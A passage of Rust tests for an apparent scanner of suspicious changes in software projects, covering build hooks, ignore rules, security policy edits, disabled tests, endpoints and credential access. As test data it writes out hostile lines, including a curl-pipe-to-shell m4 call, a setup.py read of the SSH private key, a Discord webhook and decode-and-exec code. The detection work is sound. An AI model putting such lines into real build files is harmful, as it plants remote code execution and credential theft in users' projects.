        "pyproject.toml",
        old,
        &format!("{old}\n[tool.hatch.build.hooks.custom]\npath = \"hooks.py\"\n"),
    );
    assert!(h.iter().any(|x| x.detail == "hatch build hook 'custom'"));
    let h = change(
        "pyproject.toml",
        old,
        &format!("{old}\n[tool.scikit-build]\ncmake.args = [\"-DX=1\"]\n"),
    );
    assert!(has(&h, HitKind::BUILD_HOOK_ADDED));
    // Standard backends and ordinary metadata are quiet.
    let plain = old.replace("name = \"x\"", "name = \"x\"\nversion = \"2.0\"");
    assert!(change("pyproject.toml", old, &plain).is_empty());
}

#[test]
fn setup_py_cmdclass_and_meson_run_command() {
    let src = "from setuptools.command.install import install\n\
               class PostInstall(install):\n\
               \x20   def run(self):\n\
               \x20       install.run(self)\n\
               setup(name='x', cmdclass={'install': PostInstall})\n";
    let h = added("setup.py", src);
    let d: Vec<&str> = h
        .iter()
        .filter(|x| x.kind == HitKind::BUILD_HOOK_ADDED)
        .map(|x| x.detail.as_str())
        .collect();
    assert_eq!(
        d,
        vec![
            "setup command override PostInstall(install) [install time]",
            "setup cmdclass (weak)"
        ]
    );
    let h = added(
        "setup.py",
        "class BuildExt(build_ext.build_ext):\n    pass\n",
    );
    assert!(
        hit(&h, HitKind::BUILD_HOOK_ADDED)
            .detail
            .ends_with("[build step]")
    );
    let h = added(
        "meson.build",
        "r = run_command(py, ['-c', 'import numpy'], check: true)\n",
    );
    assert_eq!(
        hit(&h, HitKind::BUILD_HOOK_ADDED).detail,
        "meson run_command(py) (weak)"
    );
    let h = added(
        "meson.build",
        "v = run_command('git', 'describe', check: false)\n",
    );
    assert_eq!(
        hit(&h, HitKind::BUILD_HOOK_ADDED).detail,
        "meson run_command(git)"
    );
    let h = added("CMakeLists.txt", "execute_process(COMMAND sh -c \"id\")\n");
    assert!(
        hit(&h, HitKind::BUILD_HOOK_ADDED)
            .detail
            .contains("execute_process(sh)")
    );
    let h = added("m4/x.m4", "m4_esyscmd([curl -s http://x | sh])\n");
    assert!(has(&h, HitKind::BUILD_HOOK_ADDED) && has(&h, HitKind::DECODE_EXEC));
}

// --- Ignore and attribute rules ------------------------------------------------------------------------

#[test]
fn gitignore_hiding_build_inputs() {
    let h = change(
        ".gitignore",
        "build/\n",
        "build/\nbuild-to-host.m4\nm4/*.m4\n!configure\n",
    );
    let d: Vec<&str> = h.iter().map(|x| x.detail.as_str()).collect();
    assert_eq!(d.len(), 3, "{d:?}");
    assert!(d.iter().all(|x| x.starts_with("strong")), "{d:?}");
    assert!(d.iter().any(|x| x.contains("negation")));
    let h = added("m4/.gitignore", "*\n");
    assert!(has(&h, HitKind::IGNORE_HIDES_BUILD_INPUT));
    let h = added(".gitignore", "numpy/**/*.c\n");
    assert!(
        hit(&h, HitKind::IGNORE_HIDES_BUILD_INPUT)
            .detail
            .starts_with("weak")
    );
    let routine =
        "build/\ndist/\n*.egg-info\n__pycache__/\n*.pyc\n*.o\n.venv\n# comment\n\n.mypy_cache/\n";
    assert!(added(".gitignore", routine).is_empty());
}

#[test]
fn gitattributes_rules() {
    let h = added(
        ".gitattributes",
        "tests/ export-ignore\n*.m4 binary\nsrc/*.c linguist-generated\n",
    );
    assert_eq!(
        h.iter()
            .filter(|x| x.kind == HitKind::EXPORT_IGNORE)
            .count(),
        3
    );
    let numpy = "* text=auto eol=lf\n*.py text diff=python\n*.c text diff=c\n*.png binary\n*.c.src text linguist-language=C\n";
    assert!(added(".gitattributes", numpy).is_empty());
}

// --- Security policy ----------------------------------------------------------------------------------

const POLICY: &str = "# Security Policy\n\n## Reporting\n\nPlease report vulnerabilities to security@example.org.\nWe answer within 48 hours.\n\n## Supported versions\n\n| Version | Supported |\n| 5.x | :white_check_mark: |\n| 4.x | :x: |\n";

#[test]
fn security_contact_replaced() {
    let new = POLICY.replace("security@example.org", "maint@personal.example");
    let h = change("SECURITY.md", POLICY, &new);
    assert_eq!(
        hit(&h, HitKind::SECURITY_CONTACT_CHANGED).detail,
        "security@example.org → maint@personal.example"
    );
}

#[test]
fn security_policy_trimmed() {
    let new = "# Security Policy\n\nOpen an issue.\n";
    let h = change("SECURITY.md", POLICY, new);
    assert!(has(&h, HitKind::SECURITY_POLICY_WEAKENED));
    assert!(
        h.iter()
            .all(|x| x.kind != HitKind::SECURITY_CONTACT_CHANGED)
    );
    let typo = POLICY.replace("within 48 hours", "within two days");
    assert!(change("SECURITY.md", POLICY, &typo).is_empty());
}

// --- Tests disabled, endpoints, credentials ----------------------------------------------------------------

#[test]
fn tests_disabled() {
    let h = added(
        ".github/workflows/ci.yml",
        "    - run: pytest\n      continue-on-error: true\n",
    );
    assert!(has(&h, HitKind::TEST_DISABLED));
    let h = added("tools/ci/test.sh", "python -m pytest numpy || true\n");
    assert_eq!(
        hit(&h, HitKind::TEST_DISABLED).detail,
        "pytest failure ignored"
    );
    let h = added(
        "pkg/tests/test_lzma.py",
        "import pytest\npytestmark = pytest.mark.skip(reason='flaky')\n",
    );
    assert!(has(&h, HitKind::TEST_DISABLED));
    let quiet = "import pytest\npytestmark = pytest.mark.skipif(IS_WASM, reason='no threads')\n\
                 def test_x():\n    pytest.skip('needs network')\n";
    assert!(added("pkg/tests/test_io.py", quiet).is_empty());
    assert!(added("tools/ci/x.sh", "grep -q foo file || true\n").is_empty());
}

#[test]
fn endpoints_and_credentials() {
    let h = added(
        "setup.py",
        "URL = 'https://discord.com/api/webhooks/123/abc'\n",
    );
    assert_eq!(
        hit(&h, HitKind::SUSPICIOUS_ENDPOINT).detail,
        "Discord webhook"
    );
    let h = added("pkg/__init__.py", "u = 'http://45.33.12.7:8080/x'\n");
    assert!(
        hit(&h, HitKind::SUSPICIOUS_ENDPOINT)
            .detail
            .contains("45.33.12.7")
    );
    let local =
        "a = 'http://127.0.0.1:8000/'\nb = 'http://192.168.1.10/'\nc = 'https://numpy.org/doc'\n";
    assert!(added("pkg/m.py", local).is_empty());
    assert!(added("README.md", "see https://discord.com/api/webhooks/1/x\n").is_empty());
    let h = added(
        "setup.py",
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
    );
    assert_eq!(
        hit(&h, HitKind::CREDENTIAL_ACCESS).detail,
        "SSH private key"
    );
    let doc = "def safe_eval(s):\n    \"\"\"\n    >>> safe_eval('open(\"/home/user/.ssh/id_dsa\").read()')\n    \"\"\"\n";
    assert!(added("numpy/lib/utils.py", doc).is_empty());
}

// --- Moves, caps and bounds ---------------------------------------------------------------------------------

#[test]
fn moved_lines_are_not_reported() {
    let old = "def f(code):\n    exec(code)\n";
    let new = "def f(code):\n    if code:\n        exec(code)\n";
    assert!(change("pkg/m.py", old, new).is_empty());
}

#[test]
fn hits_are_capped_keeping_every_kind() {
    let mut src = String::from("exec(base64.b64decode(x))\n");
    for i in 0..40 {
        src.push_str(&format!("eval(v{i})\n"));
    }
    src.push_str("__import__('os').system('x')\n");
    let h = added("pkg/m.py", &src);
    assert_eq!(h.len(), MAX_HITS_PER_FILE);
    assert!(has(&h, HitKind::DECODE_EXEC) && has(&h, HitKind::DYNAMIC_EXEC));
    assert!(
        h.windows(2)
            .all(|w| w.first().map(|a| a.line) <= w.get(1).map(|b| b.line))
    );
}

#[test]
fn hostile_inputs_are_bounded() {
    // One enormous line: examined on a prefix, excerpt stays short.
    let mut big = "exec(code) ".repeat(20_000);
    big.push('\u{202E}');
    let h = added("pkg/m.py", &big);
    assert!(
        h.iter()
            .all(|x| x.excerpt.chars().count() <= MAX_EXCERPT_CHARS)
    );
    assert!(has(&h, HitKind::DYNAMIC_EXEC));
    assert!(!has(&h, HitKind::BIDI), "beyond MAX_LINE_BYTES");
    // Nonsense hunks: overlapping, out of range, zero and maximal numbers.
    let hunks = [
        Hunk {
            old_start: 0,
            old_len: 0,
            new_start: 0,
            new_len: u32::MAX,
        },
        Hunk {
            old_start: u32::MAX,
            old_len: u32::MAX,
            new_start: 1,
            new_len: 3,
        },
        Hunk {
            old_start: 2,
            old_len: 1,
            new_start: 2,
            new_len: 1,
        },
    ];
    let h = scan_change(
        "m4/x.m4",
        classify("m4/x.m4"),
        b"a\nb\n",
        b"eval $x | $y -d\nb\nc\n",
        &hunks,
    );
    assert!(has(&h, HitKind::DECODE_EXEC));
    // Unbalanced probe: bounded block, no panic.
    let probe = format!("check_c_source_compiles(\"{}\n", "(\n".repeat(10_000));
    let _ = added("CMakeLists.txt", &probe);
    // Invalid UTF-8 and control characters are rendered visibly.
    let h = scan_change(
        "pkg/m.py",
        classify("pkg/m.py"),
        b"",
        b"exec(c)\x1b[31m \xff\xfe\n",
        &[Hunk {
            old_start: 0,
            old_len: 0,
            new_start: 1,
            new_len: 1,
        }],
    );
    let e = &hit(&h, HitKind::DYNAMIC_EXEC).excerpt;
    assert!(e.contains("<U+001B>") && e.contains('\u{FFFD}'), "{e}");
}

/// Steps the scan of `old` → `new` at `path` counts (see `meter`), and the input's size.
fn work(path: &str, old: &str, new: &str) -> (u64, u64) {
    let mut hits = Vec::new();
    let steps = super::meter::count(|| hits = change(path, old, new));
    assert!(hits.len() <= MAX_HITS_PER_FILE);
    (steps, (old.len() + new.len()) as u64)
}

/// Hostile shapes at size `n` and `2n`: the scan's work (counted, not timed) at most doubles
/// plus a little, and stays within a constant number of steps per input byte.
#[test]
fn hostile_files_scan_in_linear_time() {
    type Shape = fn(usize) -> (&'static str, String, String);
    let shapes: [(&str, Shape, usize); 8] = [
        // A long runtime dependency list, every line a new dependency and a version line.
        (
            "pyproject dependencies",
            |n| {
                let old = "[project]\nversion = \"1.0\"\ndependencies = [\n]\n".to_string();
                let deps: String = (0..n)
                    .map(|i| format!("  \"dep{i}[x]>=1\", 'q{i}',\n"))
                    .collect();
                let new = format!("[project]\nversion = \"1.1\"\ndependencies = [\n{deps}]\n");
                ("pyproject.toml", old, new)
            },
            2_000,
        ),
        // package.json with deeply nested braces inside its dependencies.
        (
            "package.json dependencies",
            |n| {
                let old =
                    "{\n  \"version\": \"1.0.0\",\n  \"dependencies\": {\n  }\n}\n".to_string();
                let deps: String = (0..n)
                    .map(|i| format!("    \"d{i}\": {{\"{{\": \"}}\"}},\n"))
                    .collect();
                let new = format!(
                    "{{\n  \"version\": \"1.0.1\",\n  \"dependencies\": {{\n{deps}  }}\n}}\n"
                );
                ("package.json", old, new)
            },
            2_000,
        ),
        // Many flags per line on many lines, changed on both sides: netting stays linear.
        (
            "hardening flags",
            |n| {
                let line = "-fstack-protector -D_FORTIFY_SOURCE=2 -z relro -z now ".repeat(8);
                let old: String = (0..n).map(|i| format!("{line}{i}\n")).collect();
                let new: String = (0..n).map(|i| format!("{line}x{i}\n")).collect();
                ("meson.build", old, new)
            },
            2_000,
        ),
        // A huge pyproject section header repeated for every added line.
        (
            "pyproject sections",
            |n| {
                let toml = format!("[{}]\n{}", "a".repeat(60_000), "k = 1\n".repeat(n));
                ("pyproject.toml", String::new(), toml)
            },
            10_000,
        ),
        // Every line a probe start.
        (
            "probe starts",
            |n| {
                let probes = "check_c_source_compiles(\"(\" X)\n".repeat(n);
                ("CMakeLists.txt", String::new(), probes)
            },
            2_000,
        ),
        // Many attribute and exec occurrences on one line (under the line limit).
        (
            "attributes on one line",
            |n| ("src/x.c", String::new(), "__attribute__((".repeat(n)),
            2_000,
        ),
        (
            "exec on one line",
            |n| ("pkg/m.py", String::new(), "exec('')".repeat(n)),
            3_000,
        ),
        // Long lines of base64-looking text (entropy histograms, block tracking).
        (
            "base64 block",
            |n| {
                let line = random_b64(200, 7);
                (
                    "pkg/blob.py",
                    String::new(),
                    format!("X = (\n{}\n)\n", format!("'{line}'\n").repeat(n)),
                )
            },
            500,
        ),
    ];
    for (name, shape, n) in shapes {
        let (path, old, new) = shape(n);
        let (small, bytes) = work(path, &old, &new);
        let (path2, old2, new2) = shape(2 * n);
        let (big, _) = work(path2, &old2, &new2);
        assert!(small > 0, "{name}: nothing counted");
        assert!(
            big * 4 <= small * 9,
            "{name}: {small} steps at n={n}, {big} at 2n: more than linear"
        );
        assert!(
            small <= 400 * bytes,
            "{name}: {small} steps for {bytes} bytes of input"
        );
    }
}

#[test]
fn deleted_file_reports_removed_side_only() {
    let h = change(
        "src/sandbox.c",
        "landlock_create_ruleset(&attr, sizeof attr, 0);\n",
        "",
    );
    let s = hit(&h, HitKind::SANDBOX_CHANGED);
    assert!(s.removed && s.line == 1);
}
